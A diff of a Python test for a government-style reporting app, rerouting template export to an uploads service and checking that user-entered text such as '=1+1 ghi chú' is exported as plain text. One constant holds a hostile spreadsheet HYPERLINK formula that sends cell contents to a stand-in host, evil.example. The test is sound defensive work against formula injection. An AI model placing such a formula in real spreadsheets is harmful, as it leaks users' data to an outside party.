@@ -17,6 +17,7 @@ from app.models import Indicator, User  # noqa: E402
 from app.services import designer as designer_svc  # noqa: E402
 from app.services import exports  # noqa: E402
 from app.services import submissions as svc  # noqa: E402
+from app.services import uploads as uploads_svc
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
 # the formulas the app itself writes: totals, ratios, year to date, % change
@@ -59,7 +60,7 @@ def test_the_template_writes_names_units_and_comments_as_text(app, hostile_versi
     report = svc.open_report(user=reporter, regime_code="BCT-BANLE", agency_code="T01.SCT", period_key="2027-M03", for_write=True)
     assert report.version.id == hostile_version.id
     svc.save(user=reporter, report=report, raw={("BL_HH_01", ""): ("5", False, "=1+1 ghi chú")}, outline={}, revision=None)
-    data, _ = svc.template(user=reporter, regime_code="BCT-BANLE", agency_code="T01.SCT", period_key="2027-M03")
+    data, _ = uploads_svc.template(user=reporter, regime_code="BCT-BANLE", agency_code="T01.SCT", period_key="2027-M03")
     assert foreign_formulas(data) == []
     found = texts(data)
     assert HOSTILE in found and "@SUM(1,2)" in found and "=1+1 ghi chú" in found
